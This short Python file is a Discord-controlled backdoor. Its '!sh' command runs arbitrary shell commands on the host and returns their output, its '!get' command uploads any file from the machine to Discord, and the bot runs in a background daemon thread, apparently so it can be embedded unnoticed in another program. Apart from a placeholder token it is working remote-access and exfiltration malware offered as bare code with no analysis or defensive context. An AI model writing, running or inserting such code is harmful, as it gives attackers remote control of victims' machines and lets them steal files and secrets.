import threading, subprocess, os
import discord
from discord.ext import commands

bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())

@bot.command()
async def sh(ctx, *, cmd):
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    await ctx.send(out.stdout[:1900])

@bot.command()
async def get(ctx, path):
    await ctx.send(file=discord.File(path))

threading.Thread(target=bot.run, args=("inert.token",), daemon=True).start()
